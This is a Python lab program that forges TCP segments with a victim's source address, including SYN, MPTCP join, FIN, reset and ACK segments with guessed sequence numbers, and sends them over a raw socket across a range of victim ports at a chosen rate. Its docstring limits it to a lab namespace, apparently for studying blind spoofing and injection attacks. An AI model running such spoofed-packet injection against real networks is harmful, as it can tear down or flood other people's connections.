"""A neighbour that sends segments in a victim's name and sees no answer, for the lab `blind-attack` only: it runs
inside a lab host's namespace, through that host's own interface, and ends by itself.

usage: python -m topologies.programs.blind INTERFACE GATEWAY_MAC VICTIM DESTINATION PORT RATE KIND PORTS

KIND is one of the KINDS; PORTS are the victim's ports, `from-to` or `a,b,c`. One segment a port, RATE a second.
"""

import ipaddress
import random
import socket
import sys
import time
from collections.abc import Sequence

from topologies.programs.flooding import OPTIONS, frame

FIN_ACK, RST, SYN, ACK = 0x11, 0x04, 0x02, 0x10
MSS = bytes.fromhex("020405b4")
JOIN = bytes.fromhex("1e0c1009") + b"\xde\xad\xbe\xefevil"
KINDS = {
    "syn": (SYN, MSS),
    "mp-capable": (SYN, OPTIONS),
    "mp-join": (SYN, MSS + JOIN),
    "fin": (FIN_ACK, b""),
    "reset": (RST, b""),
    "ack": (ACK, b""),
}
"""Kind -> flags and options of the segments that are sent. Their sequence and acknowledgement numbers are guesses."""


def ports_of(text: str) -> Sequence[int]:
    """`32768-60999` or `40000,40002`."""
    if "-" in text:
        first, last = (int(part) for part in text.split("-"))
        return range(first, last + 1)
    return [int(part) for part in text.split(",")]


def main() -> int:
    """Send, and print how many went and in how many seconds."""
    interface, gateway, victim, destination, port, rate, kind, ports = sys.argv[1:]
    flags, options = KINDS[kind]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    ends = (
        out.getsockname()[4],
        bytes.fromhex(gateway.replace(":", "")),
        ipaddress.ip_address(victim).packed,
        ipaddress.ip_address(destination).packed,
    )
    guess = random.Random(kind)
    sent, start = 0, time.monotonic()
    for source in ports_of(ports):
        while time.monotonic() - start < sent / float(rate):
            time.sleep(0.001)
        try:
            out.send(frame(*ends, source, int(port), guess.getrandbits(32), flags, options))
            sent += 1
        except OSError:
            pass  # the interface's queue is full: this segment is lost, as on a real link
    print(sent, round(time.monotonic() - start, 1), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
